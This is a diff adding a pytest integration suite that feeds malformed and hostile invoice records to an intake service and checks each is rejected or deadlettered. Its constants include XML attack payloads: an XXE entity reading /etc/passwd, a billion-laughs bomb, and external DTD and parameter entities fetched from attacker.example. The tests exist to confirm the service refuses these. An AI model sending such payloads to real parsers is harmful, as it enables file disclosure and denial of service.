@@ -1,0 +1,175 @@
+"""A corpus of bad input: every record ends as a rejection (with reasons) or a deadletter entry —
+never accepted, never silently dropped, never blocking the batch."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import AsyncIterator
+from typing import Any
+
+import asyncpg
+import pytest
+
+from services.intake.handlers import router
+from shared.consumer import DEADLETTER_EVENT_TYPE, RawRecord
+from shared.envelope import new_envelope
+from shared.settings import Settings
+from shared.topics import IN_INVOICES, IN_PURCHASE_ORDERS
+from tests.integration.intake.builders import PAYEE, UBL_INVOICE, inv_rec, invoice, po_issued, ubl_rec
+from tests.support import deliver, emitted, record, scratch_pool
+
+pytestmark = pytest.mark.integration
+
+XXE = """<?xml version="1.0"?>
+<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
+<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"
+ xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2"><cbc:ID>&xxe;</cbc:ID></Invoice>"""
+BILLION_LAUGHS = """<?xml version="1.0"?>
+<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
+<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2">&lol3;</Invoice>"""
+EXTERNAL_DTD = """<?xml version="1.0"?>
+<!DOCTYPE Invoice SYSTEM "http://attacker.example/evil.dtd">
+<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"/>"""
+PARAMETER_ENTITY = """<?xml version="1.0"?>
+<!DOCTYPE Invoice [<!ENTITY % remote SYSTEM "http://attacker.example/x"> %remote;]>
+<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"/>"""
+
+
+def raw(topic: Any, value: bytes, key: str = PAYEE) -> RawRecord:
+    return record(topic, "invoice.submitted", {}, key=key, raw_value=value)
+
+
+def envelope_bytes(event_type: str, data: Any, **overrides: Any) -> bytes:
+    env = json.loads(new_envelope(event_type, {}, source="test").model_dump_json())
+    env["data"] = data
+    env.update(overrides)
+    return json.dumps(env).encode()
+
+
+def corpus() -> list[tuple[str, RawRecord, str]]:
+    """(name, record, expected outcome: "rejected" or "deadlettered")."""
+    huge_description = invoice("HUGE-1", "H-1")
+    huge_description["lines"][0]["description"] = "x" * (1024 * 1024 + 10)
+    missing_lines = invoice("MISS-1", "M-1")
+    del missing_lines["lines"]
+    del missing_lines["currency"]
+    wrong_types = invoice("TYPE-1", "T-1", issue_date=20260301, document_type="receipt", tax_total=True)
+    wrong_types["lines"][0]["line_amount"] = 1600.5  # a JSON number with a fraction: never money
+    wrong_types["lines"][1]["quantity"] = "1e3"
+    return [
+        ("not json", raw(IN_INVOICES, b"{not json"), "deadlettered"),
+        ("empty value", raw(IN_INVOICES, b""), "deadlettered"),
+        ("json but not an object", raw(IN_INVOICES, b"[1, 2, 3]"), "deadlettered"),
+        ("invalid utf-8", raw(IN_INVOICES, b"\xff\xfe\x00garbage"), "deadlettered"),
+        (
+            "envelope without event_id",
+            raw(IN_INVOICES, envelope_bytes("invoice.submitted", invoice(), event_id=None)),
+            "deadlettered",
+        ),
+        (
+            "unknown event type",
+            raw(IN_INVOICES, envelope_bytes("invoice.teleported", invoice())),
+            "deadlettered",
+        ),
+        (
+            "event type of another topic",
+            raw(IN_INVOICES, envelope_bytes("purchase_order.issued", po_issued())),
+            "deadlettered",
+        ),
+        (
+            "unsupported schema version",
+            raw(IN_INVOICES, envelope_bytes("invoice.submitted", invoice(), schema_version=2)),
+            "deadlettered",
+        ),
+        (
+            "data is not an object",
+            raw(IN_INVOICES, envelope_bytes("invoice.submitted", "hello")),
+            "deadlettered",
+        ),
+        ("missing fields", inv_rec(missing_lines), "rejected"),
+        ("wrong types and fractional JSON money", inv_rec(wrong_types), "rejected"),
+        (
+            "PO with a number for a string",
+            record(IN_PURCHASE_ORDERS, "purchase_order.issued", po_issued(payee_id=42), key="PO-1"),
+            "rejected",
+        ),
+        ("payload over 1 MiB", inv_rec(huge_description), "rejected"),
+        (
+            "UBL over 1 MiB",
+            ubl_rec("UBL-HUGE", UBL_INVOICE.format(number="U-1") + " " * (1024 * 1024)),
+            "rejected",
+        ),
+        ("UBL external entity", ubl_rec("UBL-XXE", XXE), "rejected"),
+        ("UBL entity expansion bomb", ubl_rec("UBL-LOL", BILLION_LAUGHS), "rejected"),
+        ("UBL external DTD", ubl_rec("UBL-DTD", EXTERNAL_DTD), "rejected"),
+        ("UBL parameter entity", ubl_rec("UBL-PE", PARAMETER_ENTITY), "rejected"),
+        ("UBL not well-formed", ubl_rec("UBL-BROKEN", "<Invoice><unclosed></Invoice>"), "rejected"),
+        ("UBL not an invoice", ubl_rec("UBL-ORDER", "<Order xmlns='urn:x'/>"), "rejected"),
+        (
+            "UBL empty invoice",
+            ubl_rec("UBL-EMPTY", "<Invoice xmlns='urn:oasis:names:specification:ubl:schema:xsd:Invoice-2'/>"),
+            "rejected",
+        ),
+    ]
+
+
+CORPUS = corpus()
+
+
+@pytest.fixture(scope="module")
+async def pool() -> AsyncIterator[asyncpg.Pool]:
+    async with scratch_pool("intake") as p:
+        yield p
+
+
+@pytest.mark.parametrize(("name", "rec", "outcome"), CORPUS, ids=[c[0] for c in CORPUS])
+async def test_each_bad_input_is_rejected_or_deadlettered(
+    pool: asyncpg.Pool, name: str, rec: RawRecord, outcome: str
+) -> None:
+    result = await deliver(pool, router, rec, settings=Settings(service="intake"))
+    assert emitted(result, "invoice.accepted") == []
+    assert emitted(result, "purchase_order.version_in_force") == []
+    if outcome == "rejected":
+        assert (result.rejected, result.deadlettered) == (1, 0)
+        [rejection] = emitted(result, "document.rejected")
+        assert rejection["data"]["reasons"], name
+        assert all(r["code"] and r["message"] for r in rejection["data"]["reasons"])
+        assert result.outbox[0].key == rec.key_text
+    else:
+        assert (result.rejected, result.deadlettered) == (0, 1)
+        [dead] = emitted(result, DEADLETTER_EVENT_TYPE)
+        assert dead["data"]["origin"]["offset"] == rec.offset
+
+
+async def test_the_whole_corpus_in_one_batch_loses_nothing_and_blocks_nothing(pool: asyncpg.Pool) -> None:
+    good = inv_rec(invoice("GOOD-1", "G-1", po_number="PO-X"))
+    records = [rec for _, rec, _ in corpus()] + [good]
+    result = await deliver(pool, router, *records, settings=Settings(service="intake"))
+    expected_rejected = sum(1 for _, _, outcome in CORPUS if outcome == "rejected")
+    assert result.rejected == expected_rejected
+    assert result.deadlettered == len(CORPUS) - expected_rejected
+    assert result.handled == 1 and len(emitted(result, "invoice.accepted")) == 1
+    assert len(emitted(result, "document.rejected")) == expected_rejected
+
+
+@pytest.mark.parametrize("xml", [XXE, BILLION_LAUGHS, EXTERNAL_DTD, PARAMETER_ENTITY])
+async def test_xml_attacks_are_refused_as_unsafe_never_expanded(pool: asyncpg.Pool, xml: str) -> None:
+    result = await deliver(pool, router, ubl_rec("UBL-ATTACK", xml), settings=Settings(service="intake"))
+    [rejection] = emitted(result, "document.rejected")
+    assert [r["code"] for r in rejection["data"]["reasons"]] == ["unsafe_document"]
+    assert "root:" not in json.dumps(rejection)  # nothing from /etc/passwd leaked into the reason
+
+
+async def test_fractional_json_money_and_oversize_payload_reasons(pool: asyncpg.Pool) -> None:
+    fractional = invoice("FRAC-1", "F-1", total_amount=2000.12)
+    result = await deliver(pool, router, inv_rec(fractional), settings=Settings(service="intake"))
+    [rejection] = emitted(result, "document.rejected")
+    assert {(r["code"], r["field"]) for r in rejection["data"]["reasons"]} == {
+        ("invalid_field", "total_amount")
+    }
+    huge = invoice("HUGE-2", "H-2")
+    huge["lines"][0]["description"] = "x" * (1024 * 1024 + 1)
+    result = await deliver(pool, router, inv_rec(huge), settings=Settings(service="intake"))
+    [rejection] = emitted(result, "document.rejected")
+    assert [r["code"] for r in rejection["data"]["reasons"]] == ["payload_too_large"]
